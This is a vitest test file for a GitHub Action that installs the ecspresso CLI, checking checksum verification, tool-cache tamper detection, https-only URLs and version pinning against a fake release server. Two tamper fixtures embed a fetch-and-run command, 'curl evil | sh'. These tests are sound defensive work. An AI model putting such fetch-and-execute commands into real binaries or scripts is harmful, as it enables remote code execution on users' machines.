// main() with the real @actions/core and @actions/tool-cache against a fake release on 127.0.0.1:
// outputs and GITHUB_PATH read back from their files, the tool cache and RUNNER_TEMP inspected.
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { delimiter, dirname, join } from 'node:path';
import { actionDefaults, runAction } from '@doppio-dev/action-testing';
import { afterEach, expect, it } from 'vitest';
import { run } from '../src/main.js';
import { assetName, parseVersion, platformOf } from '../src/release.js';
import {
  checksumsFile,
  fakeArchive,
  runnerDirs,
  sha256Hex,
  startReleaseServer,
  type ReleaseServer,
} from './fake-release.js';

const defaults = actionDefaults(join(import.meta.dirname, '..', 'action.yml'));
// This machine's asset, named as the release names it (the names themselves are pinned in release.test.ts).
const asset = assetName(parseVersion('v2.5.0'), platformOf(process.platform, process.arch));
const nodeArch = platformOf(process.platform, process.arch).nodeArch;

let server: ReleaseServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function serveRelease(archive: Buffer, listed: Buffer = archive): Promise<ReleaseServer> {
  server = await startReleaseServer({
    'v2.5.0/checksums.txt': checksumsFile({ [asset]: listed }),
    [`v2.5.0/${asset}`]: archive,
  });
  return server;
}

it('defaults to the pinned v2.5.0 from kayac/ecspresso releases, with no sha256 pin', () => {
  expect(defaults).toEqual({
    version: 'v2.5.0',
    'base-url': 'https://github.com/kayac/ecspresso/releases/download',
    sha256: '',
  });
});

/** The one directory of this job's own copy under RUNNER_TEMP. */
const ownDirs = (temp: string): string[] =>
  readdirSync(temp).filter((name) => name.startsWith('ecspresso-'));

it('installs the verified release, puts its own copy on PATH, and a second run is a verified cache hit', async () => {
  const archive = fakeArchive('ecspresso v2.5.0');
  const release = await serveRelease(archive);
  const dirs = runnerDirs();
  const first = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  expect(first.failed).toBe(false);
  const [own] = ownDirs(dirs.temp);
  const binary = join(dirs.temp, own!, 'ecspresso');
  expect(first.outputs).toEqual({ version: 'v2.5.0', path: binary, 'cache-hit': 'false' });
  expect(release.requests).toEqual(['/download/v2.5.0/checksums.txt', `/download/v2.5.0/${asset}`]);
  // The tool cache holds the binary and the record of its checksums; nothing else is left in RUNNER_TEMP.
  const cached = join(dirs.toolCache, 'ecspresso', '2.5.0', nodeArch);
  expect(readFileSync(join(cached, 'ecspresso'))).toEqual(readFileSync(binary));
  expect(JSON.parse(readFileSync(join(cached, 'ecspresso.sha256.json'), 'utf8'))).toEqual({
    archive: sha256Hex(archive),
    binary: sha256Hex(readFileSync(binary)),
  });
  expect(readdirSync(dirs.temp)).toEqual([own]);
  // The directory went to GITHUB_PATH, and from there `ecspresso` runs by name.
  expect(readFileSync(dirs.githubPath, 'utf8').split('\n').filter(Boolean)).toEqual([
    dirname(binary),
  ]);
  expect(
    execFileSync('ecspresso', ['version'], {
      env: { PATH: `${dirname(binary)}${delimiter}/usr/bin${delimiter}/bin` },
      encoding: 'utf8',
    }),
  ).toBe('ecspresso v2.5.0\n');
  // main ran it once itself: its output is in the log.
  expect(first.log).toContain('ecspresso v2.5.0\n');

  const second = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  expect(second.failed).toBe(false);
  expect(second.outputs['cache-hit']).toBe('true');
  expect(second.outputs['path']).not.toBe(binary);
  // The hit was verified against the release again: only checksums.txt was downloaded.
  expect(release.requests.slice(2)).toEqual(['/download/v2.5.0/checksums.txt']);
  expect(second.log).toContain('found in the tool cache and verified');
  expect(readFileSync(dirs.githubPath, 'utf8').split('\n').filter(Boolean)).toEqual([
    dirname(binary),
    dirname(second.outputs['path']!),
  ]);
});

it('downloads again when the cached binary changed since it was cached', async () => {
  const release = await serveRelease(fakeArchive('ecspresso v2.5.0'));
  const dirs = runnerDirs();
  await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  const cached = join(dirs.toolCache, 'ecspresso', '2.5.0', nodeArch, 'ecspresso');
  writeFileSync(cached, "#!/bin/sh\necho 'ecspresso v2.5.0'; curl evil | sh\n");
  const again = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  expect(again.failed).toBe(false);
  expect(again.outputs['cache-hit']).toBe('false');
  expect(again.log).toContain(
    `::warning::the tool cache's ecspresso v2.5.0 (${cached}) changed since it was cached`,
  );
  expect(readFileSync(again.outputs['path']!, 'utf8')).not.toContain('curl evil');
  expect(release.requests.slice(2)).toEqual([
    '/download/v2.5.0/checksums.txt',
    `/download/v2.5.0/${asset}`,
  ]);
});

it('downloads again when the release now lists another checksum than the cached archive had', async () => {
  const dirs = runnerDirs();
  const old = await serveRelease(fakeArchive('ecspresso v2.5.0 (old build)'));
  await runAction(run, { ...defaults, 'base-url': old.baseUrl }, dirs.env);
  await server!.close();
  const fresh = await serveRelease(fakeArchive('ecspresso v2.5.0 (new build)'));
  const again = await runAction(run, { ...defaults, 'base-url': fresh.baseUrl }, dirs.env);
  expect(again.outputs['cache-hit']).toBe('false');
  expect(again.log).toContain('came from an archive with SHA-256');
  expect(readFileSync(again.outputs['path']!, 'utf8')).toContain('(new build)');
});

it('installs only over https', async () => {
  const release = await serveRelease(fakeArchive('ecspresso v2.5.0'));
  const result = await runAction(
    run,
    { ...defaults, 'base-url': release.baseUrl.replace('https:', 'http:') },
    runnerDirs().env,
  );
  expect(result.failed).toBe(true);
  expect(result.log).toContain(
    `::error::base-url "${release.baseUrl.replace('https:', 'http:')}" must be an https URL`,
  );
  expect(release.requests).toEqual([]);
});

it('accepts an archive whose SHA-256 equals the sha256 input, and refuses a pin the release disagrees with before downloading the archive', async () => {
  const archive = fakeArchive('ecspresso v2.5.0');
  const release = await serveRelease(archive);
  const pinned = await runAction(
    run,
    { ...defaults, 'base-url': release.baseUrl, sha256: sha256Hex(archive).toUpperCase() },
    runnerDirs().env,
  );
  expect(pinned.failed).toBe(false);
  expect(pinned.log).toContain('(equal to the sha256 input)');

  const other = sha256Hex('another archive');
  const refused = await runAction(
    run,
    { ...defaults, 'base-url': release.baseUrl, sha256: other },
    runnerDirs().env,
  );
  expect(refused.failed).toBe(true);
  expect(refused.log).toContain(
    `::error::${release.baseUrl}/v2.5.0/checksums.txt lists SHA-256 ${sha256Hex(archive)} for ${asset}, but the sha256 input pins ${other}. Nothing was installed.`,
  );
  expect(release.requests.slice(2)).toEqual(['/download/v2.5.0/checksums.txt']);
});

it('refuses a sha256 input that is not 64 hex digits', async () => {
  const result = await runAction(run, { ...defaults, sha256: 'abc123' }, runnerDirs().env);
  expect(result.failed).toBe(true);
  expect(result.log).toContain('::error::sha256 "abc123" is not a SHA-256');
});

it('refuses a binary that reports another version than the one asked for, putting nothing on PATH', async () => {
  const release = await serveRelease(fakeArchive('ecspresso v2.4.6'));
  const dirs = runnerDirs();
  const result = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  expect(result.failed).toBe(true);
  expect(result.log).toContain(
    '::error::the binary installed as ecspresso v2.5.0 reports v2.4.6 (`ecspresso version` printed "ecspresso v2.4.6"): not the version asked for, so it is not used',
  );
  expect(readFileSync(dirs.githubPath, 'utf8')).toBe('');
  expect(result.outputs).toEqual({});
});

it('accepts the version without its v', async () => {
  const release = await serveRelease(fakeArchive('ecspresso v2.5.0'));
  const result = await runAction(
    run,
    { ...defaults, version: '2.5.0', 'base-url': release.baseUrl },
    runnerDirs().env,
  );
  expect(result.outputs['version']).toBe('v2.5.0');
  expect(release.requests).toEqual(['/download/v2.5.0/checksums.txt', `/download/v2.5.0/${asset}`]);
});

it('refuses a tampered archive with both sums, installing nothing', async () => {
  const genuine = fakeArchive('ecspresso v2.5.0');
  const tampered = fakeArchive('ecspresso v2.5.0; curl evil | sh');
  const release = await serveRelease(tampered, genuine);
  const dirs = runnerDirs();
  const result = await runAction(run, { ...defaults, 'base-url': release.baseUrl }, dirs.env);
  expect(result.failed).toBe(true);
  expect(result.log).toContain(
    `::error::checksum mismatch for ${asset}: expected SHA-256 ${sha256Hex(genuine)} (from ${release.baseUrl}/v2.5.0/checksums.txt), got ${sha256Hex(tampered)} for ${release.baseUrl}/v2.5.0/${asset}. Nothing was installed.`,
  );
  expect(result.outputs).toEqual({});
  expect(readdirSync(dirs.toolCache)).toEqual([]);
  expect(readFileSync(dirs.githubPath, 'utf8')).toBe('');
  expect(readdirSync(dirs.temp)).toEqual([]);
});

it('fails clearly when the release has no asset for this platform (404)', async () => {
  server = await startReleaseServer({
    'v2.5.0/checksums.txt': checksumsFile({ [asset]: fakeArchive('x') }),
  });
  const dirs = runnerDirs();
  const result = await runAction(run, { ...defaults, 'base-url': server.baseUrl }, dirs.env);
  expect(result.failed).toBe(true);
  const page = server.baseUrl.replace(/\/download$/, '');
  expect(result.log).toContain(
    `::error::${server.baseUrl}/v2.5.0/${asset} does not exist (HTTP 404): ecspresso v2.5.0 has no `,
  );
  expect(result.log).toContain(
    `Check that v2.5.0 is a release and which platforms it ships at ${page} (ecspresso v2 releases ship linux/amd64, linux/arm64, darwin/amd64, darwin/arm64`,
  );
  expect(result.outputs).toEqual({});
  expect(existsSync(join(dirs.toolCache, 'ecspresso'))).toBe(false);
});

it('refuses latest without any download', async () => {
  server = await startReleaseServer({});
  const dirs = runnerDirs();
  const result = await runAction(
    run,
    { ...defaults, version: 'latest', 'base-url': server.baseUrl },
    dirs.env,
  );
  expect(result.failed).toBe(true);
  expect(result.log).toContain(
    '::error::ecspresso version `latest` is not allowed: doppio installs a fixed, tested ecspresso version',
  );
  expect(server.requests).toEqual([]);
  expect(result.outputs).toEqual({});
});

it('fails when the installed binary does not run', async () => {
  const release = await serveRelease(fakeArchive('exec format error', { exitCode: 126 }));
  const result = await runAction(
    run,
    { ...defaults, 'base-url': release.baseUrl },
    runnerDirs().env,
  );
  expect(result.failed).toBe(true);
  expect(result.log).toContain('but `ecspresso version` exited with 126: exec format error');
  expect(result.outputs).toEqual({});
});
